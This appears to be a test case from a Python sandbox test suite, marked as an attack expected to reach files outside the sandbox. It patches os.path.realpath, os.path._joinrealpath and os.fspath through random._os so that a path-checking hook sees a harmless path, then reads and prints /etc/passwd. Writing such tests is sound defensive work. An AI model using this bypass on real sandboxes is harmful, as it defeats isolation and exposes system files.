# attack: patches posixpath.realpath and os.fspath so the hook would see a harmless path
# expect: file access outside sandbox
import random

os = random._os
os.path.realpath = lambda p, **k: os.getcwd() + "/harmless"
os.path._joinrealpath = lambda *a: ("/tmp/sandbox/harmless", True)
os.fspath = lambda p: "/tmp/sandbox/harmless"
print(open("/etc/passwd").read())
